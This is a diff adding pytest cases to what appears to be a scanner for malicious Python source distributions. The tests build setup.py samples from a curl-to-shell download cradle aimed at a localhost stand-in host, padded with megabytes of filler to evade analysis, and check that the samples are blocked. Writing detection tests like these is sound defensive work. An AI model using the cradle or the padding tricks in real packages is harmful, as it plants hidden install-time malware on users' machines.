@@ -161,6 +161,31 @@ def test_malicious_setup_py_is_blocked_unbuilt(
     assert expected <= rules
 
 
+CRADLE = 'import os\nos.system("curl -s http://127.0.0.1:9/stage2.sh | sh")\n'
+PADDED_SETUPS = {
+    "a-1-MB-comment-after": CRADLE + "# " + "A" * 1_000_000 + "\n",
+    "a-2-MB-comment-before": "# " + "A" * 2_000_000 + "\n" + CRADLE,
+    "a-giant-literal-before": 'PAD = "' + "x9" * 800_000 + '"\n' + CRADLE,
+    "300000-lines-before": "pass\n" * 300_000 + CRADLE,
+    "a-giant-line-holding-it": "x = 1; " * 200_000 + CRADLE,
+}
+
+
+@pytest.mark.parametrize("setup", PADDED_SETUPS.values(), ids=PADDED_SETUPS.keys())
+def test_padding_cannot_push_install_time_code_out_of_the_analysis(
+    fake_pypi: FakePyPI,
+    pip_env: dict[str, str],
+    make_venv: MakeVenv,
+    tmp_path: Path,
+    marker: Path,
+    setup: str,
+) -> None:
+    """The issue's evasion: a build script that pipes a download into a shell and
+    carries megabytes of padding is read in full, blocked, and nothing runs."""
+    rules = _blocked_sdist(fake_pypi, pip_env, make_venv, tmp_path, marker, setup)
+    assert "install-time-code" in rules or "dropper" in rules
+
+
 def test_unreadable_sdist_is_blocked(
     fake_pypi: FakePyPI,
     pip_env: dict[str, str],
